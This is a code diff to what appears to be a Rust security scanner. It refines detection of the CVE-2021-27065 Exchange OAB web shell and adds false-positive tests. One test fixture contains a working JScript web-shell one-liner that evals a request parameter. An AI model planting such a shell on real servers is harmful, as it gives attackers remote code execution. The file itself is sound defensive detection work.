@@ -258,27 +258,65 @@ fn oab_matcher() -> &'static AhoCorasick {
     M.get_or_init(|| {
         AhoCorasick::builder()
             .ascii_case_insensitive(true)
-            .build(["externalurl", "internalurl", "<script"])
+            .build(["externalurl", "internalurl"])
             .expect("static patterns")
     })
 }
 
 /// Built-in check for the virtual-directory-settings web shell of CVE-2021-27065 / 26858: the
-/// settings text (`ExternalUrl` or `InternalUrl`) and a `<script` tag in the same page. Returns
-/// the offsets of the first settings key and the first script tag.
+/// settings as `Set-OabVirtualDirectory` / `Get-OabVirtualDirectory | Format-List` write them,
+/// one `Name<spaces>: value` per line, with a `<script` tag *inside* the value of `ExternalUrl`
+/// or `InternalUrl`, a URL as the cmdlet requires
+/// (`ExternalUrl    : http://f/<script language="JScript" runat="server">…`).
+/// A page that merely mentions the words and has a script elsewhere is not this shell. Returns
+/// the offsets of the settings key and of the script tag in its value.
 pub fn oab_settings_shell(data: &[u8]) -> Option<(usize, usize)> {
-    let mut key = None;
-    let mut script = None;
-    for m in oab_matcher().find_overlapping_iter(data) {
-        match m.pattern().as_usize() {
-            2 => script = script.or(Some(m.start())),
-            _ => key = key.or(Some(m.start())),
+    for m in oab_matcher().find_iter(data) {
+        let key = m.start();
+        // The key starts its line (indentation allowed).
+        let line_start = data[..key]
+            .iter()
+            .rposition(|&b| b == b'\n' || b == b'\r')
+            .map_or(0, |i| i + 1);
+        if !data[line_start..key]
+            .iter()
+            .all(|&b| b == b' ' || b == b'\t')
+        {
+            continue;
         }
-        if key.is_some() && script.is_some() {
-            break;
+        // Then blanks, a colon, and the value up to the end of the line.
+        let mut i = m.end();
+        while i < data.len() && (data[i] == b' ' || data[i] == b'\t') {
+            i += 1;
+        }
+        if data.get(i) != Some(&b':') {
+            continue;
+        }
+        let value_end = data[i..]
+            .iter()
+            .position(|&b| b == b'\n' || b == b'\r')
+            .map_or(data.len(), |p| i + p);
+        let value = &data[i + 1..value_end];
+        // The cmdlet only takes a URL there: `http://f/<script …`.
+        let lead = value
+            .iter()
+            .take_while(|&&b| b == b' ' || b == b'\t')
+            .count();
+        let url = &value[lead..];
+        if !(url.len() >= 7
+            && (url[..7].eq_ignore_ascii_case(b"http://")
+                || url.len() >= 8 && url[..8].eq_ignore_ascii_case(b"https://")))
+        {
+            continue;
+        }
+        if let Some(p) = value
+            .windows(7)
+            .position(|w| w.eq_ignore_ascii_case(b"<script"))
+        {
+            return Some((key, i + 1 + p));
         }
     }
-    Some((key?, script?))
+    None
 }
 
 #[cfg(test)]
@@ -410,8 +448,22 @@ mod tests {
         assert_eq!(asm.as_deref(), Some("App_Web_x1"));
         assert!(compiled_virtual_path(b"<preserve resultType=\"2\">").is_none());
         let shell = b"Name : OAB (Default Web Site)\r\nExternalUrl : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"p\"],\"unsafe\");}</script>";
-        assert!(oab_settings_shell(shell).is_some());
-        assert!(oab_settings_shell(b"<script>var externalUrl;").is_some());
+        let (k, sc) = oab_settings_shell(shell).unwrap();
+        assert_eq!(&shell[k..k + 11], b"ExternalUrl");
+        assert_eq!(&shell[sc..sc + 7], b"<script");
+        // Format-List layout with wide padding, InternalUrl, LF line ends, indentation.
+        let padded = b"PollInterval : 480\n  InternalUrl                     :   https://x/<SCRIPT runat=server>x</SCRIPT>\n";
+        assert!(oab_settings_shell(padded).is_some());
+        // The CMS false positive: the words and a script, but the script is not in the value.
+        assert!(oab_settings_shell(b"<script>var externalUrl;").is_none());
+        let cms = b"<label>ExternalUrl</label>\r\nInternalUrl: https://intranet/\r\n<script src=\"app.js\"></script>";
+        assert!(oab_settings_shell(cms).is_none());
+        assert!(oab_settings_shell(b"settings.ExternalUrl = x; // <script").is_none());
+        // A settings form in the same layout, but the value is a control, not a URL.
+        assert!(
+            oab_settings_shell(b"InternalUrl: <input runat=server /><script>x()</script>")
+                .is_none()
+        );
         assert!(oab_settings_shell(b"<html><script>alert(1)</script>").is_none());
         assert!(oab_settings_shell(b"ExternalUrl : https://mail.example.org/OAB").is_none());
     }
